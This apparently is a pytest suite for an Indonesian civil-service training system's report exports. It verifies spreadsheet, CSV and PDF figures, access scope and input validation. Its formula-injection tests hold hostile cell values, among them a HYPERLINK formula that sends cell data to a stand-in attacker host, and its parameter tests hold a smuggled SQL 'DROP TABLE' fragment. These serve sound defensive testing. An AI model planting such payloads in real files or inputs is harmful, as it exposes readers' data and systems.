"""The report exports opened and checked cell by cell (openpyxl for XLSX, the csv module for CSV,
pdftotext for the PDF), on the hand-computed regency of ``conftest.py`` (year 2026).

By hand (P1 requires C1 4, C2 2, C3 2):
* E1 (1.01, PNS): C1 4 quiz (gap 0), C2 1 HR (gap 1), C3 0 trusted, 3 self-assessed (gap 2,
  untrusted only); JPM 5/8 = 62.5 % kurang; JP 20.5 (12 klasikal import, 8.5 LMS): memenuhi.
* E2 (1.01.1, PPPK): C1 5, C2 2, C3 1 HR and 2 H5P (gap 1, untrusted only); JPM 7/8 = 87.5 %
  memenuhi; JP 30: over the 24 cap.
* E3 (1.01, no position): no requirement; 0 JP.
* E4 (2.03): C1 4 (gap 0), C2 0, C3 0; JPM 4/8 = 50 %; JP 2026 4 (LMS).
* E5 (2.03): nothing attained, gaps 4, 2, 2; JPM 0 %; JP 20 (external coaching).
"""

import csv
import datetime
import io
import shutil
import subprocess
from decimal import Decimal

import openpyxl
import pytest

from lms.people.models import Employee, Position
from lms.reports.exports.files import export_file_name, write_export
from lms.reports.exports.options import ExportError, OutOfScope, export_request
from lms.reports.exports.writers import CsvBook, XlsxBook

from .conftest import C1, C2, C3
from .test_course_figures import course  # noqa: F401 - the completion fixture

YEAR = 2026


def export(viewer, kind, fmt, year=YEAR, **filters) -> bytes:
    request = export_request(viewer=viewer, kind=kind, fmt=fmt, year=year, **filters)
    output = io.BytesIO()
    write_export(request, output)
    return output.getvalue()


def workbook(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data), read_only=False)


def table(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM, so that Excel reads UTF-8"
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8")), delimiter=";"))


def nip(regency, key) -> str:
    return regency["people"][key].nip


# --- gap ------------------------------------------------------------------------------------------


def test_gap_xlsx_detail_cell_by_cell(regency):
    book = workbook(export(regency["bkpsdm"], "gap", "xlsx"))
    assert book.sheetnames == ["Peta kesenjangan", "Ringkasan", "Rincian", "Keterangan"]
    rows = table(book["Rincian"])
    assert rows[0] == [
        "NIP", "Nama", "Jenis pegawai", "Jabatan", "Kode OPD", "OPD", "Kode kompetensi",
        "Kompetensi", "Level dibutuhkan", "Level dicapai (bukti terpercaya)", "Sumber bukti",
        "Tanggal bukti", "Level dilaporkan (belum terpercaya)", "Sumber laporan",
        "Hanya bukti belum terpercaya", "Kesenjangan",
    ]  # fmt: skip
    body = rows[1:]
    assert len(body) == 12  # E1, E2, E4, E5 × C1, C2, C3
    e1 = regency["people"]["e1"]
    first = body[0]
    assert first[:8] == [e1.nip, e1.full_name, "PNS", "Pengolah Data", "1.01", "Dinas Kominfo",
                         C1, regency["comp"][C1].name]  # fmt: skip
    assert first[8:] == [4, 4, "Kuis dinilai server", datetime.datetime(2026, 3, 1), None, None,
                         "Tidak", 0]  # fmt: skip
    e1_c3 = body[2]
    assert (e1_c3[6], e1_c3[8], e1_c3[9], e1_c3[10], e1_c3[12], e1_c3[13], e1_c3[14],
            e1_c3[15]) == (C3, 2, 0, None, 3, "Penilaian diri", "Ya", 2)  # fmt: skip
    e2_c3 = body[5]
    e2 = (nip(regency, "e2"), "PPPK", "1.01.1", 1, "Input BKPSDM", 2, "Ya", 1)
    assert (e2_c3[0], e2_c3[2], e2_c3[4], e2_c3[9], e2_c3[10], e2_c3[12], e2_c3[14],
            e2_c3[15]) == e2  # fmt: skip
    gaps = {(r[0], r[6]): r[15] for r in body}
    assert gaps[(nip(regency, "e5"), C1)] == 4
    assert gaps[(nip(regency, "e4"), C1)] == 0
    assert isinstance(first[0], str) and len(first[0]) == 18  # the NIP stays text


def test_gap_heat_map_sheet(regency):
    book = workbook(export(regency["bkpsdm"], "gap", "xlsx"))
    sheet = book["Peta kesenjangan"]
    rows = table(sheet)
    assert rows[0][0].startswith("Peta kesenjangan kompetensi 2026")
    header = rows[3]
    assert header[:2] == ["Kode OPD", "OPD"]
    assert [h.split("\n")[0] for h in header[2:5]] == [C1, C2, C3]
    assert header[5] == "Semua kompetensi"
    body = {row[0]: row[1:] for row in rows[4:]}
    # 1.01 with its unit: C1 0/2 below, C2 1/2 (E1), C3 2/2 (E1, E2); all 3/6.
    assert body["1.01"] == ["Dinas Kominfo", 0.0, 0.5, 1.0, 0.5]
    # 2.03: C1 1/2 (E5), C2 2/2, C3 2/2: all 5/6.
    assert body["2.03"][1:4] == [0.5, 1.0, 1.0]
    assert body["2.03"][4] == pytest.approx(5 / 6)
    assert body["2.01"] == ["Dinas Lama A", None, None, None, None]  # nobody required
    assert body[None][0] == "Semua OPD dalam cakupan"  # the total row
    assert body[None][1:4] == [0.25, 0.75, 1.0]
    assert sheet["C5"].number_format == "0.0%"  # the number is shown, colour or not
    (rule_range,) = [str(r.sqref) for r in sheet.conditional_formatting]
    assert rule_range == "C5:F9"


def test_gap_summary_sheet_and_csv(regency):
    book = workbook(export(regency["bkpsdm"], "gap", "xlsx"))
    rows = table(book["Ringkasan"])
    assert rows[0][:7] == ["Kode OPD", "OPD", "Kode kompetensi", "Kompetensi",
                           "Pegawai yang dibutuhkan", "Di bawah level dibutuhkan",
                           "Persentase di bawah (%)"]  # fmt: skip
    found = {(r[0], r[2]): r[4:] for r in rows[1:]}
    # 2.03 × C1: 2 people, 1 below, 50 %, Σ required 8, Σ attained 4, mean gap 2, JPM 50 %.
    assert found[("2.03", C1)] == [2, 1, 0.5, 8, 4, 2.0, 0.5]
    assert found[("1.01", C2)] == [2, 1, 0.5, 4, 3, 0.5, 0.75]
    summary_csv = csv_rows(export(regency["bkpsdm"], "gap-summary", "csv"))
    lines = {(r[0], r[2]): r[4:] for r in summary_csv[1:]}
    assert lines[("2.03", C1)] == ["2", "1", "50,0", "8", "4", "2,00", "50,0"]


def test_gap_csv_detail(regency):
    rows = csv_rows(export(regency["bkpsdm"], "gap", "csv"))
    assert rows[0][0] == "NIP" and rows[0][-1] == "Kesenjangan"
    assert len(rows) == 13
    e1 = regency["people"]["e1"]
    assert rows[1] == [e1.nip, e1.full_name, "PNS", "Pengolah Data", "1.01", "Dinas Kominfo", C1,
                       regency["comp"][C1].name, "4", "4", "Kuis dinilai server", "01-03-2026",
                       "", "", "Tidak", "0"]  # fmt: skip


def test_admin_opd_exports_only_their_opd(regency):
    rows = csv_rows(export(regency["admin_new"], "gap", "csv"))
    assert {r[4] for r in rows[1:]} == {"2.03"}
    assert {r[0] for r in rows[1:]} == {nip(regency, "e4"), nip(regency, "e5")}
    book = workbook(export(regency["admin_root"], "gap", "xlsx"))
    assert [r[0] for r in table(book["Peta kesenjangan"])[4:]] == ["1.01", None]
    with pytest.raises(OutOfScope):
        export_request(viewer=regency["admin_root"], kind="gap", fmt="csv", year=YEAR, opd="2.03")


# --- formula injection ---------------------------------------------------------------------------


HOSTILE = ['=HYPERLINK("http://jahat.example/?"&A1)', "+SUM(1)", "-1+1", "@cmd", "\tTab", "\rCR"]


def test_every_text_cell_is_formula_safe(regency):
    e1 = regency["people"]["e1"]
    Employee.objects.filter(pk=e1.pk).update(name=HOSTILE[0], gelar_depan="", gelar_belakang="")
    Position.objects.filter(code="P1").update(name=HOSTILE[1])
    regency["opd"]["root"].__class__.objects.filter(pk=regency["opd"]["root"].pk).update(
        name=HOSTILE[3]
    )
    book = workbook(export(regency["bkpsdm"], "gap", "xlsx"))
    detail = table(book["Rincian"])[1]
    assert detail[1] == "'" + HOSTILE[0]
    assert detail[3] == "'" + HOSTILE[1]
    assert detail[5] == "'" + HOSTILE[3]
    heat = {row[0]: row[1] for row in table(book["Peta kesenjangan"])[4:]}
    assert heat["1.01"] == "'@cmd"
    # openpyxl reads a formula cell's text with a leading "="; none is a formula here.
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    rows = csv_rows(export(regency["bkpsdm"], "gap", "csv"))
    assert rows[1][1] == "'" + HOSTILE[0] and rows[1][3] == "'+SUM(1)" and rows[1][5] == "'@cmd"
    for kind in ("jp", "jpm", "akpk", "jp-summary", "gap-summary"):
        for line in csv_rows(export(regency["bkpsdm"], kind, "csv"))[1:]:
            for value in line:
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (kind, value)
                assert not (value.startswith("-") and not value[1:2].isdigit()), (kind, value)


@pytest.mark.parametrize("value", HOSTILE)
def test_writers_escape_each_trigger(value):
    from lms.reports.exports.writers import Column

    columns = [Column("Teks"), Column("Angka", "int")]
    out = io.BytesIO()
    book = XlsxBook(out)
    book.sheet(value, columns).row([value, -5])  # a hostile sheet title too
    book.close()
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    # xlsxwriter stores a CR as the OOXML escape _x000D_, which Excel reads back as a CR.
    stored = ("'" + value).replace("\r", "_x000D_")
    assert sheet["A2"].value == stored and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == -5  # numbers are numbers, even negative ones
    out = io.BytesIO()
    book = CsvBook(out)
    book.sheet("x", columns).row([value, -5])
    book.close()
    assert csv_rows(out.getvalue())[1] == ["'" + value, "-5"]


# --- JPM, JP, completion -------------------------------------------------------------------------


def test_jpm_per_person(regency):
    rows = table(workbook(export(regency["bkpsdm"], "jpm", "xlsx"))["JPM per pegawai"])
    assert rows[0] == ["NIP", "Nama", "Jenis pegawai", "Kode OPD", "Jumlah kompetensi dibutuhkan",
                       "Di bawah level dibutuhkan", "Jumlah level dibutuhkan",
                       "Jumlah level dicapai", "JPM (%)", "Kategori"]  # fmt: skip
    found = {r[0]: r[3:] for r in rows[1:]}
    assert found[nip(regency, "e1")] == ["1.01", 3, 2, 8, 5, 0.625, "Kurang Memenuhi Syarat"]
    assert found[nip(regency, "e2")] == ["1.01.1", 3, 1, 8, 7, 0.875, "Memenuhi Syarat"]
    assert found[nip(regency, "e5")][-2:] == [0.0, "Kurang Memenuhi Syarat"]
    assert nip(regency, "e3") not in found  # no requirement, no JPM
    lines = {r[0]: r for r in csv_rows(export(regency["bkpsdm"], "jpm", "csv"))[1:]}
    assert lines[nip(regency, "e1")][8:] == ["62,5", "Kurang Memenuhi Syarat"]


def test_jp_per_person_and_opd_summary(regency):
    book = workbook(export(regency["bkpsdm"], "jp", "xlsx"))
    assert book.sheetnames == ["Ringkasan OPD", "JP per pegawai", "Keterangan"]
    people = {r[0]: r[2:] for r in table(book["JP per pegawai"])[1:]}
    assert people[nip(regency, "e1")] == ["PNS", "1.01", "Dinas Kominfo", 20.5, 12, 8.5, 8.5, 12,
                                          "Memenuhi 20 JP"]  # fmt: skip
    assert people[nip(regency, "e2")][-1] == "Melebihi batas 24 JP"
    assert people[nip(regency, "e3")][3:] == [0, 0, 0, 0, 0, "Belum 20 JP"]
    assert people[nip(regency, "e4")][1] == "2.03" and people[nip(regency, "e4")][3] == 4
    assert people[nip(regency, "e5")][-1] == "Memenuhi 20 JP"
    summary = {r[0]: r[1:] for r in table(book["Ringkasan OPD"])[1:]}
    # 1.01 (with 1.01.1): E1, E2, E3; PNS E1, E3 (E1 met); PPPK E2 over the cap; 0 JP: E3.
    assert summary["1.01"][:10] == ["Dinas Kominfo", 3, 2, 1, 0.5, 1, 1, 1.0, 1, 50.5]
    assert summary["1.01"][10] == pytest.approx(50.5 / 3)
    assert summary["2.03"][1:4] == [2, 2, 1]
    assert summary[None][0] == "Semua OPD dalam cakupan" and summary[None][1] == 5
    lines = {r[0]: r for r in csv_rows(export(regency["bkpsdm"], "jp", "csv"))[1:]}
    assert lines[nip(regency, "e1")][5:] == ["20,5", "12,0", "8,5", "8,5", "12,0", "Memenuhi 20 JP"]


def test_jp_summary_csv(regency):
    rows = csv_rows(export(regency["bkpsdm"], "jp-summary", "csv"))
    assert rows[0][:6] == ["Kode OPD", "OPD", "Jumlah pegawai", "PNS", "PNS mencapai 20 JP",
                           "PNS mencapai 20 JP (%)"]  # fmt: skip
    found = {r[0]: r for r in rows[1:]}
    assert found["2.03"][2:6] == ["2", "2", "1", "50,0"]


def test_completion_per_opd_and_course(regency, course):  # noqa: F811 - the fixture
    course_page, _pre, _post = course
    year = datetime.date.today().year
    book = workbook(export(regency["bkpsdm"], "completion", "xlsx", year=year))
    rows = {r[0]: r for r in table(book["Per OPD dan kursus"])[1:]}
    assert rows["1.01"][2:] == ["SPBE-1", course_page.title, 2, 1, 0.5, 2, 70, 92.5, 0.75]
    assert rows["2.03"][4:7] == [1, 1, 1.0]
    (whole,) = table(book["Per kursus"])[1:]
    assert whole[1:] == ["Semua OPD dalam cakupan", "SPBE-1", course_page.title, 3, 2,
                         pytest.approx(2 / 3), 3, pytest.approx(190 / 3), pytest.approx(260 / 3),
                         0.625]  # fmt: skip


# --- AKPK and SIASN -------------------------------------------------------------------------------


def test_akpk_lines_from_the_gaps_and_the_catalogue(regency):
    from tests.factories.courses import build_course

    build_course(modules=1, lessons=1, targets=((C3, 2),), code="LD3-A", title="Data Dasar", jp=6)
    build_course(modules=1, lessons=1, targets=((C3, 3),), code="LD3-B", title="Data Lanjut")
    rows = table(workbook(export(regency["bkpsdm"], "akpk", "xlsx"))["AKPK"])
    assert rows[0] == ["NIP", "Nama", "Jabatan", "Unit kerja", "Kompetensi yang dikembangkan",
                       "Bentuk pengembangan", "Jalur", "Penyelenggara", "Jadwal", "JP",
                       "Keterangan"]  # fmt: skip
    body = rows[1:]
    assert len(body) == 8  # E1 C2 C3, E2 C3, E4 C2 C3, E5 C1 C2 C3
    e1 = regency["people"]["e1"]
    c3 = regency["comp"][C3].name
    e1_c3 = body[1]
    assert e1_c3[:5] == [e1.nip, e1.full_name, "Pengolah Data", "Dinas Kominfo",
                         f"{C3} {c3} (level 0 → 2)"]  # fmt: skip
    # LD3-A reaches level 2 (the lowest that closes the gap), not LD3-B.
    assert e1_c3[5:10] == ["LD3-A Data Dasar", "Pelatihan non-klasikal (e-learning)",
                           e1_c3[7], "2027, belajar mandiri", 6]  # fmt: skip
    assert e1_c3[7]  # the institution's HR unit
    assert e1_c3[10].startswith("Verifikasi bukti dulu")  # 3 self-assessed
    e1_c2 = body[0]
    assert e1_c2[5:10] == [None, None, None, "2027", None]
    assert "Belum ada kursus" in e1_c2[10]


def test_siasn_file_in_its_field_order(regency):
    from certificates.services import certificate_issue
    from tests.certificates.helpers import completed_enrollment, default_template
    from tests.factories.courses import build_course

    default_template(background=False)
    e1 = regency["people"]["e1"]
    page = build_course(modules=1, lessons=1, targets=((C2, 2),), code="SPBE-9",
                        title="Kursus SPBE", jp=Decimal("4.5"))  # fmt: skip
    certificate = certificate_issue(enrollment=completed_enrollment(employee=e1, course=page))
    completed = certificate.completed_on
    rows = csv_rows(export(regency["bkpsdm"], "siasn", "csv", year=completed.year))
    assert rows[0] == [
        "id", "pnsOrangId", "nipBaru", "nipLama", "jenisDiklatId", "jenisKursus",
        "jenisKursusNama", "jenisKursusSertipikat", "namaKursus", "institusiPenyelenggara",
        "jumlahJam", "nomorSertipikat", "tahunKursus", "tanggalKursus", "tanggalSelesaiKursus",
        "lokasiId", "instansiId", "path",
    ]  # fmt: skip
    (line,) = rows[1:]
    assert line[:9] == ["", "", e1.nip, "", "3", "", "Diklat Teknis", "T", "Kursus SPBE"]
    assert line[9]  # the provider on the JP ledger line
    assert line[10:13] == ["4,5", certificate.number, str(completed.year)]
    assert line[13] == certificate.started_on.strftime("%d-%m-%Y")
    assert line[14] == completed.strftime("%d-%m-%Y")
    assert line[15:] == ["", "", ""]
    # Another OPD's Admin OPD gets nothing of it; the year before holds nothing.
    assert csv_rows(export(regency["admin_new"], "siasn", "csv", year=completed.year))[1:] == []
    assert csv_rows(export(regency["bkpsdm"], "siasn", "csv", year=completed.year - 1))[1:] == []
    book = workbook(export(regency["admin_root"], "siasn", "xlsx", year=completed.year))
    (xlsx_line,) = table(book["riwayat_kursus"])[1:]
    assert xlsx_line[2] == e1.nip and xlsx_line[10] == 4.5 and xlsx_line[11] == certificate.number


# --- PDF -----------------------------------------------------------------------------------------


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="poppler-utils")
def test_pdf_report_text(regency, tmp_path):
    data = export(regency["bkpsdm"], "summary", "pdf", opd="2.03")
    assert data.startswith(b"%PDF")
    path = tmp_path / "laporan.pdf"
    path.write_bytes(data)
    text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True,  # noqa: S603,S607
                          text=True, check=True).stdout  # fmt: skip
    assert "Laporan Pengembangan Kompetensi ASN 2026" in text
    assert "2.03 Dinas Baru" in text
    assert "Pemenuhan JP" in text and "Sebaran JP per pegawai" in text
    assert "1/2 (50,0 %)" in text  # PNS reaching 20 JP in 2.03: E5 of E4, E5
    assert "0,1–4,9 JP" in text and "20–24 JP" in text  # the dashboard's JP bands (E4, E5)
    assert "Kesenjangan kompetensi" in text
    assert "Kurang Memenuhi Syarat" in text
    assert "Dinas Kominfo" not in text  # another OPD


# --- parameters ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("changes", "field", "message"),
    [
        ({"kind": "gaji"}, "kind", 'Jenis laporan "gaji" tidak dikenal'),
        ({"fmt": "pdf"}, "format", 'tidak tersedia dalam format "pdf"'),
        ({"fmt": "docx"}, "format", "Pilihan: xlsx, csv"),
        ({"year": "2026; DROP TABLE"}, "year", "Tahun harus berupa bilangan bulat."),
        ({"year": "1999"}, "year", "Tahun harus antara 2000 dan 2100."),
        ({"year": "٢٠٢٦"}, "year", "Tahun harus berupa bilangan bulat."),
        ({"jenis_jabatan": "raja"}, "jenis_jabatan", "Jenis jabatan tidak dikenal."),
        ({"competency": "XX.99"}, "competency", "Kompetensi tidak dikenal."),
        ({"opd": "1.01\x00"}, "opd", "Nilai isian ini tidak sah."),
        ({"opd": "x" * 101}, "opd", "Nilai isian ini tidak sah."),
    ],
)
def test_bad_parameters_have_an_indonesian_message(regency, changes, field, message):
    values = {"kind": "gap", "fmt": "csv", "year": "2026", **changes}
    with pytest.raises(ExportError) as raised:
        export_request(viewer=regency["bkpsdm"], **values)
    assert raised.value.field == field and message in raised.value.message


def test_file_names(regency):
    request = export_request(viewer=regency["bkpsdm"], kind="akpk", fmt="xlsx", year="2026",
                             opd="1.01")  # fmt: skip
    assert export_file_name(request) == "akpk-2026-1.01.xlsx"
    request = export_request(viewer=None, kind="summary", fmt="pdf", year=2026)
    assert export_file_name(request) == "laporan-2026.pdf"
